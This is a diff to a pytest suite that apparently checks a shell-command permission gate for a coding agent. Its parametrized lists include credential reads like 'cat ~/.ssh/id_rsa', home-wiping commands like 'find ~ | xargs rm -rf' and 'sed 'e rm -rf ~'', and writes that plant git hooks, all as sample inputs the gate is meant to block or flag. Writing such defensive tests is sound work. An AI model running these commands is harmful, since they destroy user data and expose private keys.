@@ -93,6 +93,7 @@ def test_every_reader_meets_read_deny_rules(proj: Path, command: str) -> None:
 
 @pytest.mark.parametrize("command", [
     "cat vendor/id_rsa", "cat vendor/../README.md", "rev ~/.ssh/id_rsa", "paste /etc/hostname",
+    "cat /dev/fd/../../etc/hostname", "cat /proc/self/root/etc/hostname",
     "git diff --no-index /etc/hostname f", "date -f ~/.ssh/id_rsa", "cat ~root/.profile",
 ])
 def test_reads_resolve_symlinks_before_the_working_directory_check(
@@ -210,6 +211,7 @@ def test_a_bare_repository_planted_in_the_project_is_foreign(proj: Path) -> None
     "tar -cf - src | tar -xf - -C .git/hooks", "install -D f .git/hooks/pre-commit",
     "xxd -r -p f .git/config", "curl -o .git/hooks/x http://x", "rsync -a f .git/hooks/",
     "git clone ../r .husky", "awk 'BEGIN{system(\"rm -rf ~\")}'", "sed 'e rm -rf ~' f",
+    "find . -path './.git/*' | xargs rm", "find ~ | xargs rm -rf", "find . -path './.git/*' -delete",
     "ssh -o ProxyCommand='rm -rf ~' h", "printf 'rm -rf ~' | sh", "eval \"$(cat x)\"",
 ])
 def test_critical_deletes_and_protected_writes_ask_in_bypass(proj: Path, command: str) -> None:
@@ -236,7 +238,9 @@ def test_an_archive_is_listed_before_it_is_extracted(proj: Path) -> None:
     "git remote show", "env | grep -i path", "find . -name '*.py' | xargs grep foo",
     "find . -name '*.py' -exec wc -l {} +", "git ls-files | xargs wc -l", "ulimit -n",
     "ls -d */", "sha256sum f.txt", "declare -p HOME", "node -v", "ls src/*.py | xargs wc -l",
-    "git ls-files '*.py' | xargs grep -n import", "ls 2>/dev/null; true",
+    "git ls-files '*.py' | xargs grep -n import", "ls 2>/dev/null; true", "realpath .",
+    "[[ -e README.md ]] && echo yes", "echo $((1 + 2))", "cat <<'EOF'\n$(not run)\nEOF",
+    "diff <(ls src) <(ls tests)", "find . -name '*.md' -print0 | xargs -0 wc -c",
 ])
 def test_everyday_reads_run_without_a_prompt(proj: Path, command: str) -> None:
     d = decide_bash(command, context(proj))
